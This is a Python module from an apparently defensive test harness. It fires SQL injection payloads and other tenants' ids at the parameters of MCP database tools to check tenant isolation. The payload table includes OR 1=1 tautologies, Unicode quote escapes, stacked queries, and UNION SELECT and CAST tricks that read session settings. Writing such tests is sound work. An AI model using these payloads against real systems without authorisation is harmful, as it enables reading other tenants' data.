"""Hostile arguments for the other parameters of a tool: text that breaks out of a literal, and keys
of the other tenant's rows."""

import re
from collections.abc import Iterator, Mapping
from typing import Any, Final

from pydantic import JsonValue

from mcpdb.attack.arguments import Parameter, ToolView
from mcpdb.attack.campaign import Campaign
from mcpdb.attack.library import Aim
from mcpdb.attack.recon import key_parameters, typed
from mcpdb.attack.tables import NOBODY

# {w} is an honest word, the other places are those of `Aim.statement`.
_INJECTIONS: Final[Mapping[str, str]] = {
    "quote": "{w}'",
    "two quotes": "{w}''",
    "double quote": '{w}"',
    "or true": "{w}' OR '1'='1",
    "or true, comment": "{w}' OR 1=1 --",
    "or true, block comment": "{w}' OR 1=1 /*",
    "or true, parenthesis": "{w}') OR ('1'='1",
    "or true, pattern": "%' OR '1' LIKE '%",
    "or true, number": "1 OR 1=1",
    "backslash": "{w}\\",
    "backslash and quote": "{w}\\' OR 1=1 --",
    "NUL": "{w}\0' OR 1=1 --",
    "curly quote": "{w}\u2019 OR 1=1 --",
    "full-width quote": "{w}\uff07 OR 1=1 --",
    "modifier quote": "{w}\u02bc OR 1=1 --",
    "dollar quote": "{w}$$ OR 1=1 --",
    "stacked": "{w}'; SELECT 1; --",
    "stacked that sets": "{w}'; SELECT {keep}; --",
    "comment": "{w}--",
    "block comment": "{w}/*",
    "placeholder": "$1",
    "named placeholder": ":tenant",
    "format placeholder": "%s%(tenant)s{0}",
    "settings in OR": "{w}' OR {set} IS NOT NULL --",
    "settings in an InitPlan": "{w}' OR (SELECT {set}) IS NOT NULL --",
    "settings, pattern": "%' AND (SELECT {set}) IS NOT NULL --",
    "settings, concatenated": "' || {set} || '",
    "settings, parenthesis": "{w}') OR ((SELECT {set}) IS NOT NULL) --",
    "settings, number": "0 OR (SELECT {set}) IS NOT NULL",
    "settings in UNION, 1 column": "{w}' UNION ALL SELECT {set} || {read} --",
    "settings in UNION, 2 columns": "{w}' UNION ALL SELECT NULL, {set} || {read} --",
    "settings in UNION, 3 columns": "{w}' UNION ALL SELECT NULL, {set} || {read}, NULL --",
    "settings in UNION, 4 columns": "{w}' UNION ALL SELECT NULL, {set} || {read}, NULL, NULL --",
    "cast error": "{w}' AND 1 = CAST((SELECT {set} || {read}) AS int) --",
    "identifier": '"; SELECT {set}, {read}; --',
    "very long": "{w}{long}",
}
_WILDCARDS: Final = ("%", "_", "*")
_SHORT: Final = 4_000
_AIM: Final = Aim(
    table="pg_catalog.pg_class", column="relname", settings=("app.tenant",), foreign=""
)


async def attack_inputs(campaign: Campaign) -> None:
    """Try hostile values in every parameter that is not SQL itself."""
    taken = {(tool.view.name, tool.parameter) for tool in campaign.known.sql}
    for view in campaign.known.tools:
        for parameter in view.parameters:
            if (view.name, parameter.name) in taken:
                continue
            if campaign.options.wants("arguments"):
                await _inject(campaign, view, parameter)
        if campaign.options.wants("foreign-ids"):
            await _use_foreign_ids(campaign, view, taken)


async def _inject(campaign: Campaign, view: ToolView, parameter: Parameter) -> None:
    honest = view.honest()
    word = str(honest.get(parameter.name, "a"))
    for name, text in _texts(campaign, parameter, word):
        arguments = honest | {parameter.name: _shaped(parameter, text)}
        await _call(
            campaign, view, arguments, family="arguments", escape=f"{parameter.name}: {name}"
        )
    if parameter.is_text:
        await _note_wildcards(campaign, view, parameter)
    for tool in campaign.known.sql[:1]:
        await campaign.still_exact(
            tool, family="arguments", escape=f"after {view.name}.{parameter.name}", sent="", times=6
        )
    await _still_own(campaign, view)


def _texts(campaign: Campaign, parameter: Parameter, word: str) -> Iterator[tuple[str, str]]:
    known = campaign.known
    foreign = (known.foreign or [NOBODY])[0]
    settings = known.settings or ["app.tenant"]
    aim = known.aim or _AIM
    aim = Aim(table=aim.table, column=aim.column, settings=settings, foreign=foreign)
    # Where only a value of a list or a number is taken, a few texts show whether that is checked.
    few = not parameter.is_text
    for name, template in _INJECTIONS.items():
        if few and name not in {"or true", "or true, number", "settings, number"}:
            continue
        yield name, aim.statement(template.replace("{w}", word))[:_SHORT]


def _shaped(parameter: Parameter, text: str) -> JsonValue:
    return [text] if parameter.schema.get("type") == "array" else text


async def _call(
    campaign: Campaign, view: ToolView, arguments: dict[str, Any], *, family: str, escape: str
) -> bool:
    answer = await campaign.a.call(view.name, arguments)
    await campaign.a.mend()
    table = campaign.known.aim.table if campaign.known.aim else ""
    return campaign.judge(
        answer, tool=view.name, family=family, escape=escape, sent=arguments, table=table
    )


async def _note_wildcards(campaign: Campaign, view: ToolView, parameter: Parameter) -> None:
    """A pattern that matches everything shows the caller's own rows: worth knowing, no leak."""
    for text in _WILDCARDS:
        arguments = view.honest() | {parameter.name: text}
        await _call(
            campaign, view, arguments, family="arguments", escape=f"{parameter.name}: {text}"
        )


async def _still_own(campaign: Campaign, view: ToolView) -> None:
    """Both call honestly again: an argument may have changed what the next call sees."""
    for each in campaign.known.honest.get(view.name, [])[:1]:
        for session, is_b in ((campaign.a, False), (campaign.b, True)):
            sent = each.of_theirs if is_b else each.arguments
            answer = await session.call(view.name, dict(sent))
            truth = campaign.mirror if is_b else campaign.truth
            campaign.judge(
                answer,
                tool=view.name,
                family="arguments",
                escape=f"an honest call of {'B' if is_b else 'A'} afterwards",
                sent=sent,
                truth=truth,
            )


async def _use_foreign_ids(campaign: Campaign, view: ToolView, taken: set[tuple[str, str]]) -> None:
    """Keys that B has seen, and B's own ids, in whatever may take one."""
    keys = {each.name for each in key_parameters(view)}
    for parameter in view.parameters:
        if (view.name, parameter.name) in taken or not (parameter.is_text or parameter.is_whole):
            continue
        seeds = campaign.known.seeds.get(f"{view.name}.{parameter.name}", [])
        seeds = seeds if parameter.name in keys else []
        for number, text in enumerate([*seeds, *campaign.known.foreign[:2]]):
            if parameter.is_whole and not re.fullmatch(r"-?\d{1,18}", text):
                continue
            arguments = view.honest() | {parameter.name: typed(parameter, text)}
            what = "key" if number < len(seeds) else "id"
            await _call(
                campaign,
                view,
                arguments,
                family="foreign-ids",
                escape=f"{parameter.name}: a {what} of B's",
            )
